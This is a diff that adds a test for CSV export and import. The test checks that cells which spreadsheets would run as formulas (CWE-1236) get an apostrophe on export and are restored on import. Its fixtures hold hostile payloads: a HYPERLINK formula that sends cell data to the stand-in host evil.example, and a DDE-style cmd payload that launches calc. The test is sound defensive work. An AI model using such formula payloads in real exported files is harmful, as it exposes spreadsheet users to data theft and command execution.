@@ -1015,6 +1015,48 @@ describe.each(storeKinds)('edm export and import (%s)', (kind) => {
       'Unit null → null',
     ]);
   });
+
+  // CWE-1236: a spreadsheet runs a cell that starts with =, +, -, @ (or a tab or carriage return
+  // before one). An export writes such text after an apostrophe, shown as text; an import takes it off.
+  it('writes text a spreadsheet would run as a formula after an apostrophe, and imports it as it was', async () => {
+    const token = await t.token({ tenant: 'formulas' });
+    const titles = [
+      '=HYPERLINK("http://evil.example/?x="&B2,"click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1-1',
+      '-2+3',
+      "'quoted already",
+      '\t=1+1',
+      'plain = fine',
+    ];
+    for (const title of titles) {
+      const res = await t.call('POST', '/api/v1/okr/objectives', { token, body: { title, tags: ['=1+2', '-x'] } });
+      expect(res.status, res.raw).toBe(201);
+    }
+    let csv = '';
+    await exportCsv({ ...opts('formulas'), resource: 'Objective' }, (chunk) => {
+      csv += chunk;
+    });
+    const [header, ...rows] = parseCsv(csv);
+    const cells = rows.map((r) => r[header?.indexOf('title') ?? -1]);
+    expect(cells.sort()).toEqual(
+      [
+        '\'=HYPERLINK("http://evil.example/?x="&B2,"click")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1-1",
+        "'-2+3",
+        "''quoted already",
+        "'\t=1+1",
+        'plain = fine',
+      ].sort(),
+    );
+    // No cell of the file starts with what a spreadsheet runs (tags are JSON text: `["=1+2",…]`).
+    expect(rows.flat().filter((c) => c !== null && /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(await importRows(opts('formulas-copy'), { csv, resource: 'Objective' })).toEqual({ Objective: 7 });
+    const copied = await list('formulas-copy', 'objectives');
+    expect(copied.map((o) => o.title).sort()).toEqual([...titles].sort());
+    expect(copied.every((o) => JSON.stringify(o.tags) === '["=1+2","-x"]')).toBe(true);
+  });
 });
 
 describe.each(storeKinds)('edm export on a database without the schema (%s)', (kind) => {
